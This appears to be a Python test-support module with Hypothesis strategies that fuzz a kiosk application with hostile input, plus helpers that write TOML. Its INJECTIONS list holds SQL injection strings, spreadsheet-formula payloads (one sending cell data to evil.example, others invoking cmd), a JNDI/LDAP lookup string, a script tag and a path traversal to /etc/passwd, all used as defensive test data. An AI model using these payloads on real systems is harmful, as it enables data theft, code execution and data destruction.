"""Hypothesis strategies for hostile input, and a small TOML writer for generated campaign packs and configs.

``nasty_text`` mixes what attendees, organisers and attackers can put into a kiosk: any Unicode, control and
format characters (NUL, bidi overrides, zero-width joiners), right-to-left scripts, very long strings, and
SQL, spreadsheet-formula and template injection strings, alone or embedded in other text.
"""

from __future__ import annotations

import datetime as dt
import math
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

INJECTIONS = (
    "'; DROP TABLE signatures; --",
    "Robert'); DROP TABLE signatures;--",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM outbox",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "%s%s%s%n",
    "{0}{1}{__class__}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",
    "\u200f\u05e9\u05dc\u05d5\u05dd",
    "\ufeff",
    "\u0000\u0001\u001f\u007f",
)
CONTROL = st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs"])
RTL = st.characters(min_codepoint=0x0590, max_codepoint=0x08FF) | st.sampled_from("\u200e\u200f\u202a\u202b\u202e")
LETTERS = st.characters(categories=["Lu", "Ll", "Lt", "Lm", "Lo", "Mn", "Mc"])

nasty_text: st.SearchStrategy[str] = st.one_of(
    st.text(max_size=60),
    st.text(CONTROL, max_size=20),
    st.text(RTL | st.just(" "), min_size=1, max_size=40),
    st.text(min_size=300, max_size=3000),
    st.sampled_from(INJECTIONS),
    st.tuples(st.text(LETTERS, max_size=10), st.sampled_from(INJECTIONS), st.text(max_size=10)).map("".join),
)

# Names people really have: letters of any script with marks, spaces, apostrophes and hyphens; some right-to-left.
plausible_name: st.SearchStrategy[str] = st.text(LETTERS | st.sampled_from(" '’-"), min_size=1, max_size=100).filter(
    lambda s: any(ch.isalpha() for ch in s)
)

MOBILES = ("07911 123456", "+44 7911 123456", "0044 7700 900123", "+1 415 555 2671", "+91 98765 43210", "")


def examples(test: Callable[..., None], *strategies: st.SearchStrategy[Any], fast: int = 60) -> tuple[Any, Any]:
    """The same property as two tests: ``fast`` examples in the default suite, twenty times more marked slow."""
    common = {"deadline": None, "suppress_health_check": [HealthCheck.too_slow, HealthCheck.filter_too_much]}
    quick = settings(max_examples=fast, **common)(given(*strategies)(test))
    thorough = pytest.mark.slow(settings(max_examples=fast * 20, **common)(given(*strategies)(test)))
    return quick, thorough


# --- TOML ------------------------------------------------------------------------------------------------

toml_scalar: st.SearchStrategy[Any] = st.one_of(
    nasty_text,
    st.integers(min_value=-(2**63), max_value=2**63 - 1),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.datetimes(timezones=st.none() | st.just(dt.UTC)),
    st.dates(),
)
toml_value: st.SearchStrategy[Any] = st.recursive(
    toml_scalar,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(nasty_text, inner, max_size=4),
    max_leaves=8,
)


def toml_string(text: str) -> str:
    out = []
    for ch in text:
        if ch == "\\":
            out.append("\\\\")
        elif ch == '"':
            out.append('\\"')
        elif ord(ch) < 0x20 or ord(ch) == 0x7F:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def toml_inline(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value):
            return "nan"
        if math.isinf(value):
            return "inf" if value > 0 else "-inf"
        return repr(value)
    if isinstance(value, str):
        return toml_string(value)
    if isinstance(value, dt.datetime):
        return value.isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, list):
        return "[" + ", ".join(toml_inline(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{toml_string(k)} = {toml_inline(v)}" for k, v in value.items()) + "}"
    raise TypeError(f"no TOML for {type(value).__name__}")


def toml_document(data: dict[str, Any]) -> str:
    """A TOML document for ``data``: one ``"key" = inline value`` line per top-level key."""
    return "".join(f"{toml_string(key)} = {toml_inline(value)}\n" for key, value in data.items())


def set_path(data: dict[str, Any], path: tuple[str, ...], value: Any) -> dict[str, Any]:
    """A deep copy of ``data`` with ``value`` at ``path`` (tables made on the way, anything in the way replaced)."""
    import copy

    out = copy.deepcopy(data)
    node = out
    for part in path[:-1]:
        if not isinstance(node.get(part), dict):
            node[part] = {}
        node = node[part]
    node[path[-1]] = value
    return out


def leaf_paths(data: Any, prefix: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    """Every dotted path to a value in nested tables (list items count as the list itself)."""
    if not isinstance(data, dict):
        return [prefix]
    paths = [prefix] if prefix else []
    for key, value in data.items():
        paths.extend(leaf_paths(value, (*prefix, key)))
    return paths
